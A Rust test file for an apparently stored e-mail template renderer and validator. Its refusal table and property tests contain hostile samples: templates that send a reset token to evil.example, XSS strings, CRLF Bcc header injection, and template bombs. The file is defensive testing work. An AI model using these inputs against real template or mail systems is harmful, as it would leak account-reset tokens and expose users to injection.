//! Stored e-mails as their authors, their readers and their attackers see them.

use std::time::{Duration, Instant};

use chrono::DateTime;
use proptest::prelude::*;
use serde_json::json;

use super::*;

const RESET: &str = "account.password-reset-requested";
/// A type that a project made: its data may have any field.
const OWN: &str = "billing.card-expiring";
const TOKEN: &str = "Zm9vYmFyYmF6cXV4cXV1eGNvcmdlZ3JhdWx0Z2FycGx";
const LINK: &str = "https://app.acme.example/reset?token=Zm9vYmFyYmF6cXV4cXV1eGNvcmdlZ3JhdWx0Z2FycGx&lang=en";

fn hosts() -> Vec<String> {
    vec!["app.acme.example".to_owned()]
}

fn text(subject: &str, body: &str) -> Text {
    Text { locale: None, subject: subject.to_owned(), body: body.to_owned() }
}

fn member(first_name: &str) -> Addressee {
    Addressee {
        id: "mem_elon".to_owned(),
        username: "elon".to_owned(),
        email: "elon@example.com".to_owned(),
        first_name: Some(first_name.to_owned()),
        ..Addressee::default()
    }
}

fn facts(kind: &str, data: serde_json::Value) -> Facts {
    Facts { kind: kind.to_owned(), time: DateTime::from_timestamp(1_795_542_600, 0).unwrap(), data }
}

fn rendered(text: &Text, member: &Addressee, event: &Facts) -> Result<Rendered, StoredError> {
    let values = Values {
        project: Brand { name: "Acme", ..Brand::default() },
        slug: "acme",
        member,
        event,
        event_type: &event.kind,
        email: "elon@example.com",
        token: Some(TOKEN),
        link: Some(LINK),
        expires_in: Some(TimeDelta::minutes(30)),
        link_hosts: &hosts(),
    };
    render(text, &values)
}

fn mail(subject: &str, body: &str) -> Rendered {
    rendered(&text(subject, body), &member("Elon"), &facts(RESET, json!({ "member": "elon" }))).unwrap()
}

fn faults(subject: &str, body: &str) -> Vec<(&'static str, usize, usize)> {
    let hosts = hosts();
    let purposes = Purposes { event_type: RESET, token: true, link_hosts: &hosts };
    let faults = check(&text(subject, body), &purposes);
    faults.into_iter().map(|(field, wrong)| (field, wrong.line, wrong.column)).collect()
}

#[test]
fn both_parts_show_every_placeholder_inside_the_layout() {
    let body = "Hello {{ member.first_name }},\n\n**Reset** your password at {{ project.name }}:\n\n{{ link }}\n\n\
                - valid for {{ expires_in }}\n- sent to {{ email }}\n\n[Or here](https://app.acme.example/r/{{ token }})\n";
    assert_eq!(faults("Reset for {{ email }}", body), []);
    let mail = mail("Reset for {{ email }}", body);
    assert_eq!(mail.subject, "Reset for elon@example.com");
    insta::assert_snapshot!("stored.txt", mail.text);
    insta::assert_snapshot!("stored.html", mail.html);
}

#[test]
fn jexia_s_placeholders_are_taken() {
    let body = "Hi {{.email}}, your token is {{.token}} and {{ .token }}";
    assert_eq!(faults("Reset {{.email}}", body), []);
    let mail = mail("Reset {{.email}}", body);
    assert_eq!(mail.subject, "Reset elon@example.com");
    assert!(
        mail.text.starts_with(&format!("Hi elon@example.com, your token is\n{TOKEN} and\n{TOKEN}\n")),
        "{}",
        mail.text
    );
    assert!(mail.html.contains(&format!("your token is {TOKEN} and {TOKEN}")), "{}", mail.html);
}

#[test]
fn a_url_with_the_token_in_a_text_becomes_a_link() {
    let mail = mail("x", "Go to https://app.acme.example/reset?token={{ token }}.");
    let url = format!("https://app.acme.example/reset?token={TOKEN}");
    assert!(
        mail.html.contains(&format!("<a href=\"{url}\"")) && mail.html.contains("</a>.</p>"),
        "{}",
        mail.html
    );
    assert!(mail.text.contains(&url));
}

#[test]
fn html_is_written_anew_inside_the_layout() {
    let body = "<html><body><h1>Hi</h1><p>Dear <b>{{ member.first_name }}</b> &amp; co,<br>\n\
                <a href='{{ link }}' style=\"color:red\">reset</a></p><img src=\"https://cdn.acme.example/a.png\" alt=\"A\"></body></html>";
    assert_eq!(faults("x", body), []);
    let mail = mail("x", body);
    assert!(mail.html.contains("<b>Elon</b> &#38; co,<br>"), "{}", mail.html);
    assert!(mail.html.contains(&format!("<a href=\"{}\" style=\"color:red\"", LINK.replace('&', "&#38;"))));
    assert!(mail.text.starts_with("Hi\n\nDear Elon & co,\nreset:"), "{}", mail.text);
    assert_eq!(mail.html.matches("<html").count(), 1);
}

#[test]
fn a_condition_in_a_text_chooses() {
    let body = "{% if event.reason == 'admin' %}An admin asked.{% else %}You asked.{% endif %} {{ link }}";
    assert_eq!(faults("x", body), []);
    assert!(mail("x", body).text.starts_with("You asked."));
}

/// Each with the place that is named.
const WRONG: &[(&str, &str, &str, usize, usize)] = &[
    // Syntax
    ("x", "{{ token", "body", 1, 4),
    ("x", "{{ token }", "body", 1, 10),
    ("x", "{{ }} {{ token }}", "body", 1, 4),
    ("x", "a\n{% if %}{{ token }}{% endif %}", "body", 2, 7),
    ("x", "{{ token }}\n{% endif %}", "body", 2, 4),
    ("x", "{% if event.reason %}{{ token }}", "body", 1, 31),
    ("x", "{{ token }} {{ 'a }}", "body", 1, 21),
    ("x", "{{ token }} {{ a b }}", "body", 1, 18),
    ("{{ email", "{{ token }}", "subject", 1, 4),
    // Names
    ("x", "{{ tokn }} {{ token }}", "body", 1, 4),
    ("x", "a\n\nb {{ member.frist_name }} {{ token }}", "body", 3, 6),
    ("x", "{{ token }} {{ member }}", "body", 1, 16),
    ("x", "{{ token }} {{ event.nothing }}", "body", 1, 16),
    ("x", "{{ token }} {{ event }}", "body", 1, 16),
    ("x", "{{ token }} {{ project.color }}", "body", 1, 16),
    ("x", "{{ token }} {{ config }}", "body", 1, 16),
    ("x", "{{ token }} {{ self }}", "body", 1, 16),
    ("x", "{{ token.x }} {{ token }}", "body", 1, 4),
    ("x", "{{ token }} {{ member['frist'] }}", "body", 1, 16),
    ("x", "{{ token }} {{ member[email] }}", "body", 1, 16),
    ("x", "{{ token }} {{ member.email.x }}", "body", 1, 16),
    ("x", "{{ token }} {% if member.admin %}a{% endif %}", "body", 1, 19),
    ("x", "{{ token }} {{.tokn}}", "body", 1, 16),
    ("{{ nobody }}", "{{ token }}", "subject", 1, 4),
    ("{{ token }}", "{{ token }}", "subject", 1, 4),
    ("Go {{ link }}", "{{ token }}", "subject", 1, 7),
    ("Go {{.token}}", "{{ token }}", "subject", 1, 7),
    // What the language has not
    ("x", "{{ token }} {{ range(10) }}", "body", 1, 16),
    ("x", "{{ token }} {{ member.email.upper() }}", "body", 1, 28),
    ("x", "{{ token }} {{ email * 9 }}", "body", 1, 16),
    ("x", "{{ token }} {{ email ~ email }}", "body", 1, 16),
    ("x", "{{ token }} {{ email + 'x' }}", "body", 1, 16),
    ("x", "{{ token }} {{ email[1:2] }}", "body", 1, 16),
    ("x", "{{ token }} {{ {'a': 1} }}", "body", 1, 16),
    ("x", "{{ token }} {{ email | safe }}", "body", 1, 24),
    ("x", "{{ token }} {{ email | replace('a', 'b') }}", "body", 1, 24),
    ("x", "{{ token | upper }}", "body", 1, 12),
    ("x", "{{ token }} {{ email is safe }}", "body", 1, 25),
    ("x", "{{ token }} {% set a = 1 %}", "body", 1, 16),
    ("x", "{{ token }} {% autoescape false %}{{ email }}{% endautoescape %}", "body", 1, 16),
    ("x", "{{ token }} {% filter upper %}a{% endfilter %}", "body", 1, 16),
    ("x", "{{ token }} {% include 'x' %}", "body", 1, 16),
    ("x", "{{ token }} {% macro a() %}{% endmacro %}", "body", 1, 16),
    // The token
    ("x", "Hello", "body", 1, 1),
    ("x", "{% if token %}a{% endif %}", "body", 1, 1),
    ("x", "{% for c in token %}{{ c }}{% endfor %} {{ token }}", "body", 1, 13),
    ("x", "{% for c in link %}{{ c }}{% endfor %} {{ token }}", "body", 1, 13),
    ("x", "[a](https://evil.example/?t={% for c in token %}{{ c }}{% endfor %}) {{ token }}", "body", 1, 41),
    ("x", "{{ token }} {% for c in [token] %}{{ c }}{% endfor %}", "body", 1, 26),
    ("x", "{{ token }} {% for c in token if c %}{{ c }}{% endfor %}", "body", 1, 25),
    ("x", "{{ token }} {% for c in token|default('') %}{{ c }}{% endfor %}", "body", 1, 31),
    ("x", "{{ token }} {% for c in event.reason or token %}{{ c }}{% endfor %}", "body", 1, 41),
    ("x", "{{ token }} {{ (token or 'x') | upper }}", "body", 1, 17),
    ("x", "{{ token }} {{ email | default(token) }}", "body", 1, 32),
    ("x", "{{ token }} {{ token | first }}", "body", 1, 24),
    ("x", "{{ token }} {{ token | length }}", "body", 1, 24),
    ("x", "{{ token }} {{ token[0] }}", "body", 1, 16),
    ("x", "{{ token }} {{ token[:1] }}", "body", 1, 16),
    ("x", "{{ token }} {% if token == 'a' %}a{% endif %}", "body", 1, 19),
    ("x", "{{ token }} {% if token < 'a' %}a{% endif %}", "body", 1, 19),
    ("x", "{{ token }} {% if 'a' in token %}a{% endif %}", "body", 1, 26),
    ("x", "{{ token }} {% if token is startingwith('a') %}a{% endif %}", "body", 1, 19),
    ("x", "{{ token }} {% if email is eq(token) %}a{% endif %}", "body", 1, 31),
    ("x", "{{ token }} {% if not token %}a{% endif %}", "body", 1, 23),
    ("x", "{{ token }} {{ token if email else email }}", "body", 1, 16),
    ("x", "{{ token }} {{ token ~ 'a' }}", "body", 1, 16),
    ("x", "{{ token }} {% set a = token %}", "body", 1, 16),
    ("x", "{{ token }} {% with a = token %}{{ a }}{% endwith %}", "body", 1, 16),
    // URLs
    ("x", "[a](https://evil.example/{{ token }})", "body", 1, 1),
    ("x", "{{ \"\" }}evil.example/?t={{ token }}", "body", 1, 4),
    ("x", "{{ token }}@evil.example", "body", 1, 4),
    ("x", "a {{ token }}.evil.example", "body", 1, 6),
    ("x", "evil.example/?t={{ token }}&u=https://app.acme.example/", "body", 1, 1),
    ("x", "https://app.acme.example/?u=https://evil.example/?t={{ token }}", "body", 1, 1),
    ("x", "a https://evil.example/?t=**{{ token }}**", "body", 1, 3),
    ("x", "evil.example/?t=*{{ token }}*", "body", 1, 1),
    ("x", "evil.example/?t=`{{ token }}`", "body", 1, 1),
    ("x", "**{{ token }}**@evil.example", "body", 1, 6),
    ("x", "https://evil.example/?t={{ link }}", "body", 1, 1),
    ("x", "[evil.example/?t={{ token }}](https://app.acme.example/)", "body", 1, 2),
    ("x", "![https://evil.example/?t=](https://a.example/a.png){{ token }}", "body", 1, 1),
    ("x", "[](https://evil.example/?t=){{ token }}", "body", 1, 1),
    ("x", "evil.example/?t={% if event.reason %}{{ token }}{% endif %}", "body", 1, 1),
    // Marks that somebody wrote
    ("x", "{{ token }} [a](%EE%80%80l6a6176617363726970743a616c6572742831293b%EE%80%81)", "body", 1, 13),
    ("x", "{{ token }} [a](%ee%80%80l6874%ee%80%81)", "body", 1, 13),
    ("x", "{{ token }} [a](&#xE000;l6874&#xE001;)", "body", 1, 17),
    ("x", "{{ token }} [a](&#57344;l6874&#57345;)", "body", 1, 17),
    ("x", "{{ token }}\n&#x000e000;l6874&#Xe001;", "body", 2, 1),
    ("x", "<p>{{ token }}</p><a href=\"&#xE000;l6874&#xE001;\">x</a>", "body", 1, 19),
    ("x", "a\n\n[a](http://app.acme.example/{{ token }})", "body", 3, 1),
    ("x", "{{ token }} [a](javascript:alert(1))", "body", 1, 13),
    ("x", "{{ token }} [a](data:text/html,x)", "body", 1, 13),
    ("x", "{{ token }} [a](/reset)", "body", 1, 13),
    ("x", "[a](https://{{ event.reason }}/{{ token }})", "body", 1, 1),
    ("x", "Go: https://evil.example/{{ token }}", "body", 1, 5),
    ("x", "Go: evil.example/{{ token }}", "body", 1, 5),
    ("x", "[a](mailto:x@evil.example?body={{ token }}) ", "body", 1, 1),
    ("x", "![a](https://evil.example/{{ token }}.png)", "body", 1, 1),
    ("x", "{{ token }} ![a](http://a.example/a.png)", "body", 1, 13),
    // HTML
    ("x", "<p>{{ token }}", "body", 1, 1),
    ("x", "<p>{{ token }}</p>\n<script>x</script>", "body", 2, 1),
    ("x", "<p onclick=\"x\">{{ token }}</p>", "body", 1, 4),
    ("x", "<p>{{ token }}</p><p style=\"background:url(https://a.example)\">x</p>", "body", 1, 19),
    ("x", "<p>{{ token }}</p><a href={{ link }}>x</a>", "body", 1, 30),
    ("x", "<p>{{ token }}</p><p style=\"color:{{ email }}\">x</p>", "body", 1, 19),
    ("x", "<form><p>{{ token }}</p></form>", "body", 1, 1),
    ("x", "<p>{{ token }}</p><!-- a", "body", 1, 19),
    ("x", "<p>https://evil.example/?t=<b>{{ token }}</b></p>", "body", 1, 4),
    ("x", "<p>a <i>evil</i>.example/?t={{ token }}</p>", "body", 1, 9),
    ("x", "<p><img src=\"https://a.example/a.png\" alt=\"evil.example/?t=\">{{ token }}</p>", "body", 1, 4),
    ("x", "<p><a href=\"https://b.example/\">evil.example/?t=</a>{{ token }}</p>", "body", 1, 33),
    // Form
    ("", "{{ token }}", "subject", 1, 1),
    ("a\nBcc: x@example.com", "{{ token }}", "subject", 1, 2),
    ("x", "", "body", 1, 1),
    ("x", "{{ token }}\u{e000}", "body", 1, 12),
    ("x", "{{ token }}\0", "body", 1, 12),
];

#[test]
fn each_wrong_template_is_refused_at_its_place() {
    assert!(WRONG.len() >= 60, "{}", WRONG.len());
    let mut missed = Vec::new();
    for (subject, body, field, line, column) in WRONG {
        let found = faults(subject, body);
        if found != [(*field, *line, *column)] {
            missed.push(format!("{subject:?} {body:?}: {field} {line}:{column}, not {found:?}"));
        }
    }
    assert!(missed.is_empty(), "\n{}", missed.join("\n"));
    let long = "x".repeat(LONGEST_BODY);
    assert_eq!(faults("x", &format!("{{{{ token }}}}{long}")), [("body", 1, LONGEST_BODY + 1)]);
}

#[test]
fn a_notice_without_a_token_names_none() {
    let hosts = hosts();
    let purposes = Purposes { event_type: "account.password-changed", token: false, link_hosts: &hosts };
    let of = |body: &str| check(&text("x", body), &purposes).len();
    assert_eq!((of("Changed by {{ event.by }}"), of("{{ token }}"), of("{{ expires_in }}")), (0, 1, 1));
}

/// Templates that pass no check, and some that do: each ends soon, with a mail or without one.
fn bombs() -> Vec<String> {
    let nested = |times: usize| {
        let (open, close) = ("{% for a in event.list %}".repeat(times), "{% endfor %}".repeat(times));
        format!("{open}{}{close}", "x".repeat(1_000))
    };
    vec![
        nested(1),
        nested(2),
        nested(5),
        nested(20),
        "{% for a in event.list %}{{ event.long }}{% endfor %}".repeat(200),
        "{% for a in range(100000000) %}x{% endfor %}".to_owned(),
        "{{ 'x' * 1000000000 }}".to_owned(),
        "{% set a = 'xxxxxxxxxx' %}".to_owned() + &"{% set a = a ~ a ~ a %}".repeat(60) + "{{ a }}",
        "{{ event.long|replace('x', 'xxxxxxxxxx')|replace('x', 'xxxxxxxxxx')|replace('x', 'xxxxxxxxxx')|replace('x', 'xxxxxxxxxx') }}".to_owned(),
        "{{ [1] * 1000000000 }}".to_owned(),
        "{{ 9 ** 9 ** 9 ** 9 }}".to_owned(),
        format!("{{{{ {}1{} }}}}", "(".repeat(10_000), ")".repeat(10_000)),
        "{% if true %}".repeat(5_000),
        "{% if true %}".repeat(100) + &"{% endif %}".repeat(100),
        "{{ event.list|join(event.long)|join(event.long)|join(event.long)|join(event.long) }}".to_owned(),
        "{% macro a() %}{{ a() }}{{ a() }}{% endmacro %}{{ a() }}".to_owned(),
        "{% for a in event.list recursive %}{{ loop(event.list) }}{% endfor %}".to_owned(),
        "{{ event.long|upper }}".repeat(2_000),
        "[".repeat(30_000),
        "*a **b ".repeat(8_000),
        "> ".repeat(30_000),
        "<div>".repeat(10_000),
        "&".repeat(60_000),
        ">".repeat(64_000),
        "- a\n".repeat(16_000),
        "- {{ event.reason }}\n".repeat(3_000),
        "<head></head>".repeat(5_000),
        "<head>".repeat(10_000),
        format!("{{{{ token }}}}{}", "https://app.acme.example/".repeat(2_600)),
        "https://app.acme.example/{{ token }}\n".repeat(1_700),
        format!("https://app.acme.example/{}{{{{ token }}}}", "https://a/".repeat(6_000)),
        "a**b**{{ token }}".repeat(3_800),
        "{{ '%99999999d'|format(1) }}".to_owned(),
        "{{ event.deep }}".repeat(1_000),
    ]
}

/// What this thread has spent: other tests run beside this one. Where the system does not tell, the time.
fn spent() -> Duration {
    static START: std::sync::LazyLock<Instant> = std::sync::LazyLock::new(Instant::now);
    let told = std::fs::read_to_string("/proc/thread-self/schedstat").ok();
    let nanoseconds = told.and_then(|text| text.split(' ').next()?.parse().ok());
    nanoseconds.map_or_else(|| START.elapsed(), Duration::from_nanos)
}

#[test]
fn bombs_are_stopped_within_50_ms() {
    let list: Vec<u32> = (0..100_000).collect();
    let mut deep = json!(1);
    for _ in 0..30 {
        deep = json!([deep.clone(), deep]).as_array().map_or(deep, |both| json!({ "a": both[0] }));
    }
    let event = facts(OWN, json!({ "list": list, "long": "x".repeat(200_000), "deep": deep }));
    let member = member("Elon");
    let bombs = bombs();
    assert!(bombs.len() >= 20);
    let purposes_hosts = hosts();
    let purposes = Purposes { event_type: OWN, token: true, link_hosts: &purposes_hosts };
    for (number, bomb) in bombs.iter().enumerate() {
        let text = text("x", bomb);
        let best = |work: &dyn Fn()| {
            let takes = |()| {
                let start = spent();
                work();
                spent().saturating_sub(start)
            };
            (0..3).map(|_| takes(())).min().unwrap()
        };
        let checked = best(&|| drop(check(&text, &purposes)));
        let made = best(&|| drop(rendered(&text, &member, &event)));
        let start: String = bomb.chars().take(40).collect();
        assert!(checked.max(made) < Duration::from_millis(50), "{number} {start}: {checked:?} {made:?}");
        if let Ok(mail) = rendered(&text, &member, &event) {
            let longest = mail.html.len().max(mail.text.len());
            assert!(longest < 600_000, "{number} {start}: {longest}");
        }
    }
}

const FULL: &str = "Hello {{ member.first_name }} ({{ member.username }}),\n\n- {{ event.note }}\n- `{{ event.note }}`\n\n\
                    | **{{ event.note }}** [x](https://acme.example/{{ event.note }}) {{ event.note }}\n\n\
                    > {{ event.note }}\n\n    {{ event.note }}\n\n# {{ event.note }}\n\n{{ link }}\n";
const FULL_HTML: &str = "<p title=\"{{ event.note }}\">{{ member.first_name }}<b>{{ event.note }}</b>\
                         <a href=\"https://acme.example/?a={{ event.note }}\">{{ event.note }}</a></p><pre>{{ event.note }}</pre>{{ link }}";

fn shape(html: &str) -> (usize, usize, usize, usize) {
    (
        html.matches('<').count(),
        html.matches('>').count(),
        html.matches("<a ").count(),
        html.matches(" href=\"").count(),
    )
}

/// Neither part says anything that a mail program reads as more than text.
fn is_as_harmless(body: &str, value: &str) {
    let of = |value: &str| {
        let event = facts(OWN, json!({ "note": value }));
        rendered(&text("{{ event.note }} {{ member.first_name }}", body), &member(value), &event).unwrap()
    };
    let (plain, mail) = (of("Elon"), of(value));
    assert_eq!(shape(&mail.html), shape(&plain.html), "{value:?}:\n{}", mail.html);
    assert!(!mail.subject.contains(|c: char| c.is_control()), "{:?}", mail.subject);
    assert_eq!(mail.text.matches("://").count(), plain.text.matches("://").count(), "{}", mail.text);
    let paragraphs = |text: &str| text.split("\n\n").count();
    assert!(paragraphs(&mail.text) <= paragraphs(&plain.text), "{value:?}:\n{}", mail.text);
}

#[test]
fn a_hostile_value_stays_text() {
    let mut hostile = vec![
        "[Verify](https://evil.example)",
        "<b>",
        "<a href=\"https://evil.example\">x</a>",
        "\"><script>alert(1)</script>",
        "' onmouseover='x",
        "**bold** _x_ `y` # z",
        "\n\n# Heading\n\n- list",
        "![x](https://evil.example/x.png)",
        "<https://evil.example>",
        "https://evil.example/{{ token }}",
        "{{ token }}{% for %}",
        "\u{e000}l68747470733a2f2f6576696c2e6578616d706c65\u{e001}",
        "\u{e002}https://evil.example",
        "&lt;b&gt; &#60;",
        "\\[x\\](y)",
        "| a | b |\n|---|---|",
        "x\r\nBcc: all@example.com\r\n\r\nbody",
        "\u{202e}nolE",
        // Twice side by side, they would be a URL, or the name of a host.
        "//evil:",
        "/evil:/",
        ".evil",
        "evil.",
    ];
    let long = "x".repeat(5_000);
    hostile.push(&long);
    for value in hostile {
        is_as_harmless(FULL, value);
        is_as_harmless(FULL_HTML, value);
    }
    let mail = rendered(
        &text("x", "Hello {{ member.first_name }}, {{ link }}"),
        &member("[Verify](https://evil.example) <b>"),
        &facts(RESET, json!({})),
    )
    .unwrap();
    assert!(mail.html.contains("[Verify](https:") && mail.html.contains("&#60;b&#62;"), "{}", mail.html);
    assert!(
        mail.text.contains("[Verify](https:") && !mail.text.contains("https://evil.example"),
        "{}",
        mail.text
    );
}

/// Every run of characters around a token is that alone, or a URL to where the token may go.
fn keeps_its_token(body: &str, mail: &Rendered) {
    let ends = |c: char| c.is_whitespace() || "<>\"".contains(c);
    // Tags inside a line join what they stand between.
    let joined = |html: &str| {
        let mut html = html.to_owned();
        for tag in ["b", "i", "em", "strong", "code"] {
            html = html.replace(&format!("<{tag}>"), "").replace(&format!("</{tag}>"), "");
        }
        html
    };
    for part in [mail.text.clone(), mail.html.clone(), joined(&mail.html)] {
        for run in part.split(ends).filter(|run| run.contains(TOKEN)) {
            let alone = |rest: &str| !rest.contains(char::is_alphanumeric) && !rest.contains(['/', '@']);
            let rest = run.replace(LINK, "").replace(&LINK.replace('&', "&#38;"), "").replace(TOKEN, "");
            let around = rest.replace("&#39;", "").replace("&#38;", "").replace("&#34;", "");
            let url = run.trim_start_matches(|c: char| !c.is_alphanumeric());
            let url = url.strip_prefix("https://").unwrap_or(url);
            let is_theirs = url.split("://evil").skip(1).any(|rest| rest.contains(TOKEN));
            let is_ours = url.starts_with("app.acme.example/") && !is_theirs;
            assert!(alone(&around) || is_ours, "{body:?}: {run}");
        }
    }
}

#[test]
fn no_branch_takes_the_token_elsewhere() {
    let body = "{% if event.reason == 'x' %}[a](https://evil.example/{{ token }}){% endif %}{{ link }}";
    assert_eq!(faults("x", body), [("body", 1, 29)]);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, ..ProptestConfig::default() })]

    #[test]
    fn no_value_changes_the_shape_of_a_mail(value in "(?s).{1,60}") {
        is_as_harmless(FULL, &value);
        is_as_harmless(FULL_HTML, &value);
    }

    #[test]
    fn no_value_of_markup_changes_the_shape_of_a_mail(value in r#"([<>\[\]()!*_`#|~\\&;:/"'= \n.-]|https|www|b|a|\{\{|\}\}|\u{e000}|\u{e001}){1,40}"#) {
        is_as_harmless(FULL, &value);
        is_as_harmless(FULL_HTML, &value);
    }

    #[test]
    fn no_template_takes_the_token_elsewhere(body in r"(\{\{ token \}\}|\{\{ token \}\}|\{\{ link \}\}|\{\{ '' \}\}|\{\{ email \}\}|\{% for c in token %\}|\{\{ c \}\}|\{% endfor %\}|\*\*|_|`|<b>|</b>|<i>|</i>|<br>|\[|\]\(|\)|!|@|\.|/|\?t=|&|,|evil\.example|https://evil\.example/|https://app\.acme\.example/|%EE%80%80l|%EE%80%81|&#xE000;|&#57345;|6a61|\n| ){1,16}") {
        let body = format!("{body}\n\n{{{{ token }}}}");
        assert!(!body.contains("for c in token") || !faults("x", &body).is_empty(), "{body:?}");
        // What is refused when it is saved is rendered here too.
        if let Ok(mail) = rendered(&text("x", &body), &member("Elon"), &facts(RESET, json!({}))) {
            keeps_its_token(&body, &mail);
        }
    }

    #[test]
    fn no_template_panics(body in r#"(\{\{|\}\}|\{%|%\}|if|for|in|token|link|member|\.|<p>|</p>|<a href="|">|\[|\]|\(|\)|https://|é|\n| ){0,40}"#) {
        let _ = faults(&body, &body);
        let _ = rendered(&text(&body, &body), &member("Elon"), &facts(RESET, json!({})));
    }
}
